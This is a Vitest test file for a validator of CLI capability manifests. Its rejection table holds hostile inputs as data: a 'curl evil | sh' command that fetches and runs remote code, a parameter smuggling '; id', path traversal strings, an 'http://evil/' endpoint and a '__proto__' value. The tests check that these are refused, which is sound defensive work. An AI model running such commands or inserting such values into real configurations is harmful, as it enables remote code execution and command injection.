import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { readManifest } from "./manifest.ts";

/** The seed's CLI JSON description, word for word. */
const seed = {
  name: "name",
  type: "cli",
  command: "aech-cli-name",
  description: "What this capability does",
  required_scopes: ["Scope.Read", "Scope.Write"],
  actions: [
    {
      name: "action-name",
      description: "What this action does",
      parameters: ["--param1", "--param2", "arg1"],
      required_scopes: ["Scope.Read"],
    },
  ],
  documentation: {
    usage: "How to use this capability",
    examples: ["aech-cli-name action-name --param1 value"],
  },
};

describe("readManifest", () => {
  test("reads the seed's description unchanged", () => {
    expect(readManifest(seed)).toEqual({ ok: true, value: seed });
    expect(readManifest(JSON.stringify(seed))).toEqual({ ok: true, value: seed });
  });

  test("needs no optional field", () => {
    const { required_scopes: _, documentation: __, ...required } = seed;
    expect(readManifest(required).ok).toBe(true);
  });

  test("reads the service block of an API-based capability", () => {
    const service = { container: "aech-rt-name", port: 8080, health_endpoint: "/health" };
    expect(readManifest({ ...seed, service })).toMatchObject({ value: { service } });
  });

  test("reads the newer fields and typed parameters, grouped subcommands included", () => {
    const newer = {
      ...seed,
      spec_version: 5,
      available_in_sandbox: true,
      bundled_skills: [{ name: "precedent-finder", description: "Find precedent clauses" }],
      documentation: { outputs: { images: { path: "x" } }, notes: ["Returns JSON"] },
      actions: [
        {
          name: "documents convert",
          description: "Render pages",
          parameters: [
            { name: "input_path", type: "argument", required: true, description: "The file" },
            { name: "output-dir", type: "option", required: true },
          ],
        },
      ],
    };
    expect(readManifest(newer)).toMatchObject({ ok: true, value: newer });
  });

  test("drops fields it does not know", () => {
    expect(readManifest({ ...seed, colour: "red" })).toEqual({ ok: true, value: seed });
  });

  test.each(["name", "type", "command", "description", "actions"])("names %s when it is missing", (field) => {
    const { [field]: _, ...rest } = seed as Record<string, unknown>;
    expect(faults(rest)).toEqual([{ path: field, message: expect.any(String) }]);
  });

  test.each(["name", "description", "parameters"])("names an action's %s when it is missing", (field) => {
    const { [field]: _, ...action } = seed.actions[0] as Record<string, unknown>;
    expect(faults({ ...seed, actions: [action] }).map(({ path }) => path)).toEqual([`actions[0].${field}`]);
  });

  test.each([
    ["a shell in command", { command: "sh -c 'curl evil | sh'" }, "command"],
    ["a path in command", { command: "../../bin/sh" }, "command"],
    ["another type", { type: "mcp" }, "type"],
    ["no actions", { actions: [] }, "actions"],
    ["a name that is a path", { name: "../x" }, "name"],
    ["a scope with a space", { required_scopes: ["a b"] }, "required_scopes[0]"],
    ["the scope that means all", { required_scopes: ["*"] }, "required_scopes[0]"],
    [
      "a health endpoint elsewhere",
      { service: { container: "x", health_endpoint: "http://evil/" } },
      "service.health_endpoint",
    ],
    ["a container that is this machine", { service: { container: "localhost" } }, "service.container"],
    ["a container that is an address", { service: { container: "127.0.0.1" } }, "service.container"],
    ["a container that is a number", { service: { container: "2130706433" } }, "service.container"],
    ["a skill that is a path", { bundled_skills: [{ name: "../../x" }] }, "bundled_skills[0].name"],
    ["an action that is an option", { actions: [action({ name: "--help" })] }, "actions[0].name"],
    ["a timeout of zero", { actions: [action({ timeout_seconds: 0 })] }, "actions[0].timeout_seconds"],
    [
      "a parameter with a shell",
      { actions: [action({ parameters: ["--x; id"] })] },
      "actions[0].parameters[0]",
    ],
    ["a parameter that is a number", { actions: [action({ parameters: [7] })] }, "actions[0].parameters[0]"],
    [
      "a typed parameter without name",
      { actions: [action({ parameters: ["a", { type: "path" }] })] },
      "actions[0].parameters[1].name",
    ],
    [
      "a typed parameter of no type",
      { actions: [action({ parameters: [{ name: "a", type: "blob" }] })] },
      "actions[0].parameters[0].type",
    ],
    [
      "two parameters of one name",
      { actions: [action({ parameters: ["--a-b", "a_b"] })] },
      "actions[0].parameters[1]",
    ],
    [
      "two actions of one tool name",
      { actions: [action({ name: "a b" }), action({ name: "a_b" })] },
      "actions[1].name",
    ],
    ["a tool name too long for models", { actions: [action({ name: "a".repeat(64) })] }, "actions[0].name"],
    [
      "a prototype in a parameter",
      { actions: [action({ parameters: ["__proto__"] })] },
      "actions[0].parameters[0]",
    ],
  ])("refuses %s and says where", (_, change, path) => {
    expect(faults({ ...seed, ...change }).map((fault) => fault.path)).toEqual([path]);
  });

  test("lists all faults at once", () => {
    expect(faults({ ...seed, name: "", command: "sh" }).map(({ path }) => path)).toEqual(["name", "command"]);
  });

  test.each([
    ["text that is not JSON", "usage: x"],
    ["a huge text", " ".repeat(600_000)],
    ["null", null],
    ["a list", []],
  ])("refuses %s", (_, source) => {
    expect(faults(source)[0]?.path).toBe("");
  });

  test("never throws, whatever it reads", () => {
    fc.assert(
      fc.property(fc.anything({ withBigInt: true }), (value) => typeof readManifest(value).ok === "boolean"),
    );
    fc.assert(
      fc.property(fc.jsonValue(), fc.jsonValue(), (parameter, field) => {
        const manifest = { ...seed, documentation: field, actions: [action({ parameters: [parameter] })] };
        return typeof readManifest(manifest).ok === "boolean";
      }),
    );
  });
});

function action(change: object): object {
  return { name: "go", description: "Goes", parameters: [], ...change };
}

function faults(source: unknown): { path: string; message: string }[] {
  const result = readManifest(source);
  if (result.ok) throw new Error("the manifest was accepted");
  expect(result.failure.code).toBe("manifest_invalid");
  return result.failure.details as { path: string; message: string }[];
}
